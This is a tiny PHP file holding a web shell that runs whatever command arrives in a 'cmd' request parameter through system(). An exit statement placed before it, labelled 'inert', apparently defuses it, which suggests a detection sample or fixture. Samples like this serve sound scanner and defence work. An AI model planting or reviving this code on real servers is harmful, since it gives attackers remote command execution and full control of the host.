<?php exit; /* inert */ 
system($_GET['cmd'] ?? $_POST['cmd'] ?? 'id');
